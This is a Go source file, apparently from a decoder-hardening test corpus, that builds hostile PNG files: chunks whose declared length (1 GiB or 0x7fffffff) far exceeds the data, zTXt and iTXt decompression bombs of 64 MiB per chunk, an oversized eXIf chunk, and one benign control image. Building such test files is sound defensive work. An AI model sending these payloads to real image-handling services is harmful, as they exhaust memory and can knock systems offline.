package hostile

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/png"
	"sync"
)

// Issue 9, classes 1 and 2: PNG chunks that make the decoder allocate or
// inflate far more than the file holds. Every file is a valid 1×1 PNG but
// for its one attack, so that a decoder that survives it has an image to
// render.
func init() {
	// Class 1: an ancillary chunk declares more bytes than the file has.
	// libpng reads the whole chunk into one buffer before it checks a
	// thing, so the declared length is what it allocates.
	for _, typ := range []string{"tEXt", "zTXt", "iTXt", "sPLT"} {
		for _, l := range []struct {
			name string
			n    uint32
		}{{"1gib", 1 << 30}, {"7fffffff", 0x7fffffff}} {
			register(File{
				Name:  fmt.Sprintf("png_chunklen_%s_%s.png", typ, l.name),
				Class: "png-chunk-length",
				Make:  func() []byte { return lyingChunkPNG(typ, l.n) },
			})
		}
	}

	// Class 2: well-formed compressed text that inflates to 64 MiB a chunk.
	register(File{Name: "png_ztxt_bomb_10x64mib.png", Class: "png-text-bomb",
		Make: func() []byte { return textBombPNG("zTXt", 10) }})
	register(File{Name: "png_ztxt_bomb_50x64mib.png", Class: "png-text-bomb",
		Make: func() []byte { return textBombPNG("zTXt", 50) }})
	register(File{Name: "png_itxt_bomb_10x64mib.png", Class: "png-text-bomb",
		Make: func() []byte { return textBombPNG("iTXt", 10) }})
	register(File{Name: "png_exif_16mib.png", Class: "png-text-bomb", Make: exifBombPNG})
	// Not an attack: a normal image with many small text chunks (as some
	// editors write), which must still render.
	register(File{Name: "png_text_100_small_ok.png", Class: "png-text-bomb", Make: manyTextPNG})
}

var pngSignature = []byte("\x89PNG\r\n\x1a\n")

// PNGChunk frames data as one PNG chunk, with its CRC.
func PNGChunk(typ string, data []byte) []byte {
	out := make([]byte, 0, 12+len(data))
	out = binary.BigEndian.AppendUint32(out, uint32(len(data)))
	out = append(out, typ...)
	out = append(out, data...)
	return binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(out[4:]))
}

// tinyPNG returns the signature and IHDR of a 1×1 8-bit grey image, and its
// IDAT and IEND; a hostile file goes between the two.
func tinyPNG() (head, tail []byte) {
	ihdr := []byte{0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0} // 1×1, depth 8, grey, no interlace
	head = append(append([]byte{}, pngSignature...), PNGChunk("IHDR", ihdr)...)
	tail = append(PNGChunk("IDAT", deflate([]byte{0, 0x80})), PNGChunk("IEND", nil)...) // filter 0, one grey pixel
	return head, tail
}

func deflate(b []byte) []byte {
	var z bytes.Buffer
	w, _ := zlib.NewWriterLevel(&z, zlib.BestCompression)
	w.Write(b)
	w.Close()
	return z.Bytes()
}

// lyingChunkPNG puts a chunk of type typ that declares n bytes right after
// IHDR; what follows it (a keyword, then the real IDAT and IEND) is all the
// data there is.
func lyingChunkPNG(typ string, n uint32) []byte {
	head, tail := tinyPNG()
	out := binary.BigEndian.AppendUint32(head, n)
	out = append(out, typ...)
	out = append(out, "Comment\x00"...)
	return append(out, tail...)
}

// zeros64MiB is 64 MiB of zeros deflated (about 65 KB); making it takes a
// tenth of a second, so it is made once.
var zeros64MiB = sync.OnceValue(func() []byte {
	var z bytes.Buffer
	w, _ := zlib.NewWriterLevel(&z, zlib.BestCompression)
	zero := make([]byte, 1<<20)
	for range 64 {
		w.Write(zero)
	}
	w.Close()
	return z.Bytes()
})

// textBombPNG has n compressed text chunks of type typ (zTXt or iTXt),
// each inflating to 64 MiB, before the image data.
func textBombPNG(typ string, n int) []byte {
	head, tail := tinyPNG()
	out := head
	for i := range n {
		var data []byte
		key := fmt.Sprintf("Comment%d\x00", i)
		switch typ {
		case "zTXt": // keyword, method 0, zlib stream
			data = append([]byte(key), 0)
		case "iTXt": // keyword, compressed, method 0, language, translated keyword, zlib stream
			data = append([]byte(key), 1, 0, 0, 0)
		}
		out = append(out, PNGChunk(typ, append(data, zeros64MiB()...))...)
	}
	return append(out, tail...)
}

// exifBombPNG has a 16 MiB eXIf chunk: a big-endian TIFF header with no
// entries, then zeros.
func exifBombPNG() []byte {
	head, tail := tinyPNG()
	exif := make([]byte, 16<<20)
	copy(exif, "MM\x00\x2a\x00\x00\x00\x08")
	return append(append(head, PNGChunk("eXIf", exif)...), tail...)
}

// manyTextPNG is a 64×64 colour gradient with 100 short tEXt chunks after
// IHDR, as a page-layout tool might leave them.
func manyTextPNG() []byte {
	img := image.NewNRGBA(image.Rect(0, 0, 64, 64))
	for y := range 64 {
		for x := range 64 {
			img.Set(x, y, color.NRGBA{uint8(x * 4), uint8(y * 4), 128, 255})
		}
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		panic(err)
	}
	enc := b.Bytes()
	afterIHDR := 8 + 25
	out := append([]byte{}, enc[:afterIHDR]...)
	for i := range 100 {
		out = append(out, PNGChunk("tEXt", fmt.Appendf(nil, "Note%d\x00layer %d, made by hand", i, i))...)
	}
	return append(out, enc[afterIHDR:]...)
}
